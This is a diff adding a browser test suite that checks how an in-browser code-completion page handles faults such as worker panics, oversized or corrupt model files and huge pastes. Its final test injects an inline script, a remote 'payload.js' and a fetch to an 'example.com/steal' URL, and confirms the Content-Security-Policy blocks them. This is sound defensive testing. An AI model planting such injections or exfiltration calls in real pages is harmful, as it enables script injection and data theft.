@@ -1,0 +1,354 @@
+// Faults (issue #7) on the real page and the real default model, those no other browser test covers: a Rust
+// panic in the worker, a model too large for wasm32 memory, broken model files (GGUF and safetensors), prompts
+// longer than the model's context, cancel while a long prompt is read, a 10 MB paste, binary-looking and
+// Python 2 text, folders without Python and with 10,000 files, and the Content-Security-Policy at work. Each
+// test checks what the user sees, then that the page still works. docs/reliability.md lists every fault.
+import assert from 'node:assert/strict';
+import { closeSync, ftruncateSync, mkdirSync, mkdtempSync, openSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { MODEL, ROOT, base, openWithCode, server, test, waitStatus } from './harness.mjs';
+
+const SAMPLE = [
+  'def average(values):',
+  '    """Return the arithmetic mean of a list of numbers."""',
+  '    total = 0',
+  '    for v in values:',
+  '        total += v',
+  '    return total / len(values)',
+  '',
+].join('\n');
+
+const errorText = (page) => page.getByTestId('error').textContent();
+
+/** Records every Worker the page creates (window.__workers), so a test can talk to the page's engine. */
+async function watchWorkers(page) {
+  await page.addInitScript(() => {
+    const Original = window.Worker;
+    window.__workers = [];
+    window.Worker = class extends Original {
+      constructor(...args) {
+        super(...args);
+        window.__workers.push(this);
+      }
+    };
+  });
+}
+
+/** Hides `line`, sets beams/max/mode, presses Complete. */
+async function start(page, line, { beams = 1, max = 8, mode = 'single' } = {}) {
+  await page.locator('#set-beams').fill(String(beams));
+  await page.locator('#set-max').fill(String(max));
+  await page.locator('#set-mode').selectOption(mode);
+  await page.getByTestId(`line-${line}`).click();
+  await page.getByTestId('complete').click();
+}
+
+/** The main thread's answer time: a round trip through the page's event loop, in ms. */
+async function roundTrip(page) {
+  const t0 = Date.now();
+  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
+  return Date.now() - t0;
+}
+
+await test('a Rust panic in the worker mid-completion is caught: the run stops, the user is told, the engine restarts and works', async (page) => {
+  await watchWorkers(page);
+  await openWithCode(page, SAMPLE);
+  await start(page, 3, { beams: 2, max: 200, mode: 'multi' });
+  await waitStatus(page, ['generating'], 30_000);
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=beams] li, #beams li').length > 0, null, { timeout: 60_000 });
+  // A real panic (src/web/mod.rs WorkerEngine::panic, the `panic` self-test request) between two steps.
+  await page.evaluate(() => window.__workers.at(-1).postMessage({ kind: 'panic', id: 4242 }));
+  await page.getByTestId('error').waitFor({ state: 'visible', timeout: 10_000 });
+  const told = await errorText(page);
+  assert.match(told, /The engine crashed: panicked at .*self-test: a deliberate panic \(request 4242\)/s, told);
+  assert.match(told, /restarting and will load the model again/, told);
+  assert.match(await page.locator('#beams-step').textContent(), /Stopped by an error/);
+  // A fresh worker loads the model again (from the browser's cache) and the page works as before.
+  assert.equal(await waitStatus(page, ['ready'], 120_000), 'ready');
+  assert.equal(await page.evaluate(() => window.__workers.length), 2, 'the engine was not restarted');
+  assert.match(await errorText(page), /The engine crashed/, 'the message disappeared before the user could read it');
+  await start(page, 6);
+  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
+  assert.ok((await page.getByTestId('completion').textContent()).trim().length > 0);
+});
+
+await test('a model file too large for wasm32 memory is refused from its size, before it is downloaded or read', async (page) => {
+  // Sparse 3 GB files: their size is real (Content-Length, File.size), their bytes take no disk.
+  const dir = mkdtempSync(join(tmpdir(), 'infill-big-'));
+  mkdirSync(join(dir, 'big', 'model'), { recursive: true });
+  const huge = join(dir, 'big', 'model', 'huge-3gb.gguf');
+  const fd = openSync(huge, 'w');
+  ftruncateSync(fd, 3e9);
+  closeSync(fd);
+  const previousHub = server.hub.dir;
+  server.hub.dir = dir;
+  try {
+    await page.goto(`${base}?hub=./hub`);
+    assert.equal(await waitStatus(page, ['ready', 'error'], 120_000), 'ready');
+    if (!(await page.locator('#models').evaluate((d) => d.open))) await page.locator('#models > summary').click();
+    const since = server.requests.length;
+    await page.getByTestId('custom-repo').fill('big/model');
+    await page.getByTestId('custom-file').fill('huge-3gb.gguf');
+    await page.getByTestId('custom-load').click();
+    await page.getByTestId('error').waitFor({ state: 'visible', timeout: 30_000 });
+    const told = await errorText(page);
+    assert.match(told, /`huge-3gb\.gguf \(big\/model\)` is 3\.00 GB, too large for this page/, told);
+    assert.match(told, /at most 4 GiB of memory/, told);
+    // The download was stopped at its first answer: one request, nothing retried.
+    assert.equal(server.requests.slice(since).filter((r) => r.path.endsWith('huge-3gb.gguf')).length, 1);
+    // The model already loaded stays in use.
+    assert.equal(await waitStatus(page, ['ready'], 30_000), 'ready');
+    assert.match(await page.locator('#status-label').textContent(), /Still using SmolLM2-135M-Instruct/);
+
+    // The same file from the computer is refused from File.size, without reading 3 GB.
+    await page.locator('#error-close').click();
+    await page.getByTestId('model-file').setInputFiles(huge);
+    await page.getByTestId('error').waitFor({ state: 'visible', timeout: 30_000 });
+    assert.match(await errorText(page), /`huge-3gb\.gguf` is 3\.00 GB, too large for this page/);
+    assert.equal(await waitStatus(page, ['ready'], 30_000), 'ready');
+    await page.getByTestId('code').fill(SAMPLE);
+    await start(page, 6);
+    assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
+  } finally {
+    server.hub.dir = previousHub;
+  }
+});
+
+await test('a line longer than the model\'s whole context gives a clear message, and the page stays usable', async (page) => {
+  // SmolLM2's tokenizer splits digits one by one: 6,000 digits are 6,000 tokens, over the 4,096 the engine keeps.
+  const code = ['def f():', `    x = "${'1234567890'.repeat(600)}"`, '    return x', ''].join('\n');
+  await openWithCode(page, code);
+  await start(page, 3);
+  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'error');
+  assert.match(await errorText(page), /the line before the hidden line alone needs more than the \d+ tokens the model's context leaves for the prompt/);
+  await page.getByTestId('code').fill(SAMPLE);
+  await start(page, 6);
+  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
+});
+
+// A function longer than the context: about 7,000 tokens above its last line.
+const LONG = ['def long_function(data):', ...Array.from({ length: 500 }, (_, i) => `    value_${i} = data[${i}] * ${i + 1} + ${i % 7}`),
+  '    return value_499', ''].join('\n');
+
+await test('cancel during the prompt stops the run before any token; code longer than the context is trimmed and the page says so', async (page) => {
+  await openWithCode(page, LONG);
+  const last = LONG.split('\n').length - 1;
+  await start(page, last, { beams: 1, max: 8 });
+  await waitStatus(page, ['generating'], 30_000);
+  // The worker reads the long prompt a piece at a time (src/engine.rs PROMPT_CHUNK) and says so.
+  await page.waitForFunction(() => document.querySelector('#beams-step')?.textContent === 'Reading the code…', null, { timeout: 60_000 });
+  const t0 = Date.now();
+  await page.getByTestId('cancel').click();
+  assert.equal(await waitStatus(page, ['ready', 'done', 'error'], 60_000), 'ready', await errorText(page).catch(() => ''));
+  const stopMs = Date.now() - t0;
+  assert.match(await page.locator('#beams-step').textContent(), /Stopped after 0 tokens/);
+  assert.ok(await page.locator('#results').isHidden(), 'a cancelled run showed results');
+  console.log(`  cancel while a ~4,000-token prompt was read took ${stopMs} ms`);
+  assert.ok(stopMs < 30_000, `cancel took ${stopMs} ms`);
+
+  // The same run to the end: the prompt was cut at line boundaries to fit, and the page says how much.
+  await start(page, last, { beams: 1, max: 8 });
+  const t1 = Date.now();
+  assert.equal(await waitStatus(page, ['done', 'error'], 400_000), 'done', await errorText(page).catch(() => ''));
+  console.log(`  the whole run with a ~4,000-token prompt took ${Date.now() - t1} ms`);
+  const shown = await page.getByTestId('stat-prompt_tokens').textContent();
+  const m = /^([\d,]+) tokens · ([\d,]+) lines left out$/.exec(shown);
+  assert.ok(m, `prompt length shows ${JSON.stringify(shown)}`);
+  assert.ok(Number(m[1].replace(/,/g, '')) <= 4096, shown);
+  assert.ok(Number(m[2].replace(/,/g, '')) > 0, shown);
+});
+
+await test('a 10 MB pasted file keeps the page responsive; a line near its end completes', async (page) => {
+  const lines = [];
+  let bytes = 0;
+  for (let i = 0; bytes < 10_000_000; i++) {
+    const line = i % 50 === 0 ? `def function_${i}(items, scale=${i}):` : `    result_${i} = [item * scale + ${i} for item in items if item > ${i % 13}]`;
+    lines.push(line);
+    bytes += line.length + 1;
+  }
+  const big = `${lines.join('\n')}\n`;
+  await openWithCode(page, SAMPLE);
+  // Long tasks (main thread busy over 50 ms), from here on.
+  await page.evaluate(() => {
+    window.__long = [];
+    new PerformanceObserver((list) => list.getEntries().forEach((e) => window.__long.push(Math.round(e.duration))))
+      .observe({ type: 'longtask' });
+  });
+  // Pasted as a browser does it: the value changes, then an `input` event with inputType insertFromPaste.
+  const t0 = Date.now();
+  await page.getByTestId('code').evaluate((box, text) => {
+    box.focus();
+    box.value = text;
+    box.dispatchEvent(new InputEvent('input', { inputType: 'insertFromPaste', bubbles: true }));
+  }, big);
+  const fillMs = Date.now() - t0;
+  assert.equal(await page.getByTestId('code').evaluate((box) => box.value.length), big.length);
+  const rt = await roundTrip(page);
+  await page.waitForTimeout(1500); // the link (#code=…) is written 300 ms after an edit
+  const rtLater = await roundTrip(page);
+  // Scroll the line view to the end, as a person would, and hide a line there.
+  const n = lines.length - 2;
+  const t1 = Date.now();
+  await page.locator('#line-view').evaluate((v) => { v.scrollTop = v.scrollHeight; });
+  await page.getByTestId(`line-${n}`).click();
+  const clickMs = Date.now() - t1;
+  const long = await page.evaluate(() => window.__long);
+  console.log(`  ${(big.length / 1e6).toFixed(1)} MB, ${lines.length} lines: fill ${fillMs} ms; round trips ${rt} and ${rtLater} ms; `
+    + `scroll to the end and click ${clickMs} ms; rows in the DOM ${await page.locator('.ln-row').count()}; long tasks ${JSON.stringify(long)} ms`);
+  assert.ok(rt < 250 && rtLater < 250, `the main thread was blocked for ${rt} / ${rtLater} ms after the paste`);
+  // Setting a 10 MB value and highlighting 139,000 lines is one long task (5.0 s measured on a busy 2-core
+  // machine); after it the page answers at once.
+  assert.ok(Math.max(0, ...long) < 10_000, `a long task of ${Math.max(...long)} ms`);
+  assert.ok(await page.locator('.ln-row').count() < 2000, 'the line view built a row for every line');
+  await page.locator('#set-beams').fill('1');
+  await page.getByTestId('complete').click();
+  await waitStatus(page, ['generating', 'done', 'error'], 30_000);
+  const during = await roundTrip(page);
+  assert.ok(during < 250, `the main thread was blocked for ${during} ms while the worker ran`);
+  assert.equal(await waitStatus(page, ['done', 'error'], 400_000), 'done', await errorText(page).catch(() => ''));
+  assert.match(await page.getByTestId('stat-prompt_tokens').textContent(), /lines left out/);
+  assert.ok((await page.getByTestId('completion').textContent()).trim().length > 0);
+});
+
+await test('broken model files (GGUF cut short, another architecture, a tokenizer that does not fit; safetensors cut short, an absurd config.json) give clear errors; the model in use stays', async (page) => {
+  const dir = mkdtempSync(join(tmpdir(), 'infill-broken-'));
+  const real = readFileSync(MODEL);
+  const cut = join(dir, 'cut-in-half.gguf');
+  writeFileSync(cut, real.subarray(0, real.length >> 1));
+  const header = join(dir, 'header-only.gguf');
+  writeFileSync(header, real.subarray(0, 4096));
+  const faults = join(ROOT, 'tests', 'fixtures', 'faults'); // scripts/gen_fault_models.py
+  const cases = [
+    [cut, /the model file could not be read: tensor `[\w.]+`: tensor needs \d+ bytes at offset \d+, only \d+ remaining in file/],
+    [header, /the model file could not be read|`header-only\.gguf`/],
+    [join(faults, 'wrong_arch.gguf'), /architecture `mamba` is not supported/],
+    [join(faults, 'vocab_mismatch.gguf'), /the tokenizer has 266 tokens but the model's embedding has only 200 rows/],
+  ];
+  await openWithCode(page, SAMPLE);
+  if (!(await page.locator('#models').evaluate((d) => d.open))) await page.locator('#models > summary').click();
+  for (const [file, wanted] of cases) {
+    await page.getByTestId('model-file').setInputFiles(file);
+    await page.getByTestId('error').waitFor({ state: 'visible', timeout: 60_000 });
+    const told = await errorText(page);
+    assert.match(told, wanted, told);
+    assert.doesNotMatch(told, /panicked|crashed|RuntimeError|unreachable/, told);
+    // The worker keeps the model it had, and the page says so.
+    assert.equal(await waitStatus(page, ['ready'], 60_000), 'ready');
+    assert.match(await page.locator('#status-label').textContent(), /Still using SmolLM2-135M-Instruct/);
+    await page.locator('#error-close').click();
+  }
+  // Safetensors (three files chosen together): weights cut in half, and a config.json with an absurd size.
+  const tiny = join(ROOT, 'tests', 'fixtures', 'parity', 'bigcode_tiny');
+  const set = (name, weights, config) => {
+    const d = join(dir, name);
+    mkdirSync(d);
+    writeFileSync(join(d, 'model.safetensors'), weights);
+    writeFileSync(join(d, 'config.json'), config);
+    writeFileSync(join(d, 'tokenizer.json'), readFileSync(join(tiny, 'tokenizer.json')));
+    return ['model.safetensors', 'config.json', 'tokenizer.json'].map((f) => join(d, f));
+  };
+  const weights = readFileSync(join(tiny, 'model_f16.safetensors'));
+  const config = readFileSync(join(tiny, 'config.json'), 'utf8');
+  for (const [files, wanted] of [
+    [set('cut', weights.subarray(0, weights.length >> 1), config), /the weights are not a safetensors file/],
+    [set('absurd', weights, config.replace('"n_layer": 2', '"n_layer": 18446744073709551615')), /config\.json has `n_layer` = 18446744073709551615, more than any model this page can run/],
+  ]) {
+    await page.getByTestId('model-file').setInputFiles(files);
+    await page.getByTestId('error').waitFor({ state: 'visible', timeout: 60_000 });
+    const told = await errorText(page);
+    assert.match(told, wanted, told);
+    assert.doesNotMatch(told, /panicked|crashed|RuntimeError|unreachable/, told);
+    assert.equal(await waitStatus(page, ['ready'], 60_000), 'ready');
+    assert.match(await page.locator('#status-label').textContent(), /Still using SmolLM2-135M-Instruct/);
+    await page.locator('#error-close').click();
+  }
+  await start(page, 6);
+  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
+  assert.ok((await page.getByTestId('completion').textContent()).trim().length > 0);
+});
+
+await test('pasted binary-looking text, Python 2 and syntax errors complete in file and function context; nothing breaks', async (page) => {
+  // NUL and other control characters, a lone UTF-16 surrogate, a Python 2 print statement, an unclosed bracket.
+  const code = [
+    'def legacy(items):',
+    '    print "items:", len(items)\u0000\u0007',
+    '    bad = [1, 2,',
+    '    name = "\uD800\u001b[31m"',
+    '    total = 0',
+    '    for item in items:',
+    '        total += item',
+    '    return total',
+    '',
+  ].join('\n');
+  await openWithCode(page, code);
+  await page.getByTestId('advanced').locator('summary').click();
+  for (const context of ['file', 'function']) {
+    await page.locator('#set-context').selectOption(context);
+    await start(page, 8);
+    assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', `${context}: ${await errorText(page)}`);
+    assert.ok((await page.getByTestId('completion').textContent()).trim().length > 0, context);
+    assert.equal(await page.getByTestId('target').textContent(), '    return total');
+  }
+});
+
+await test('batch: a folder without Python files says there is nothing to run; 10,000 files preview and keep the page responsive', async (page) => {
+  await openWithCode(page, SAMPLE);
+  const drop = async (files) => page.getByTestId('batch-drop').evaluate((zone, list) => {
+    const dt = new DataTransfer();
+    const made = typeof list === 'number'
+      ? Array.from({ length: list }, (_, i) => new File([`def f_${i}(x):\n    y = x * ${i}\n    return y + ${i % 7}\n`], `mod_${i}.py`))
+      : list.map(([name, text]) => new File([text], name));
+    for (const f of made) dt.items.add(f);
+    for (const type of ['dragenter', 'dragover', 'drop']) zone.dispatchEvent(new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }));
+  }, files);
+  const count = async (id) => Number(await page.getByTestId(`batch-count-${id}`).getAttribute('data-value'));
+
+  await drop([['README.md', '# notes'], ['data.csv', 'a,b\n1,2\n']]);
+  await page.getByTestId('batch-count-tasks').waitFor({ timeout: 60_000 });
+  assert.equal(await count('tasks'), 0);
+  assert.equal(await page.getByTestId('batch-start').isDisabled(), true);
+  assert.equal(await page.getByTestId('batch-start-hint').textContent(), 'There are no tasks to run.');
+
+  const t0 = Date.now();
+  await drop(10_000);
+  await page.waitForFunction(() => Number(document.querySelector('[data-testid=batch-count-read]')?.dataset.value) === 10_000, null, { timeout: 300_000 });
+  const previewMs = Date.now() - t0;
+  const rt = await roundTrip(page);
+  console.log(`  10,000 dropped files previewed in ${previewMs} ms; ${await count('tasks')} tasks; round trip after ${rt} ms`);
+  assert.equal(await count('tasks'), 10_000);
+  assert.ok(rt < 250, `the main thread was blocked for ${rt} ms`);
+  assert.equal(await page.getByTestId('batch-start').isDisabled(), false);
+  assert.equal(await page.getByTestId('status').textContent(), 'ready');
+});
+
+await test('the Content-Security-Policy blocks an injected inline script, a remote script and a fetch to another host', async (page) => {
+  await page.goto(base);
+  assert.equal(await waitStatus(page, ['ready', 'error'], 180_000), 'ready');
+  const seen = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    const inline = document.createElement('script');
+    inline.textContent = 'window.__inlineRan = true;';
+    document.body.append(inline);
+    const remote = document.createElement('script');
+    remote.src = 'https://example.com/payload.js';
+    const remoteDone = new Promise((resolve) => { remote.onload = () => resolve('loaded'); remote.onerror = () => resolve('blocked'); });
+    document.body.append(remote);
+    let fetched;
+    try { await fetch('https://example.com/steal?x=1'); fetched = 'sent'; } catch { fetched = 'blocked'; }
+    const remoteResult = await remoteDone;
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    return { inlineRan: window.__inlineRan === true, remoteResult, fetched, violations };
+  });
+  assert.equal(seen.inlineRan, false, 'the inline script ran');
+  assert.equal(seen.remoteResult, 'blocked');
+  assert.equal(seen.fetched, 'blocked');
+  assert.ok(seen.violations.some((v) => v.startsWith('script-src-elem inline')), JSON.stringify(seen.violations));
+  assert.ok(seen.violations.some((v) => v === 'script-src-elem https://example.com/payload.js'), JSON.stringify(seen.violations));
+  assert.ok(seen.violations.some((v) => v.startsWith('connect-src https://example.com/steal')), JSON.stringify(seen.violations));
+  // The page still works after the attempts.
+  await page.getByTestId('code').fill(SAMPLE);
+  await start(page, 6);
+  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
+});
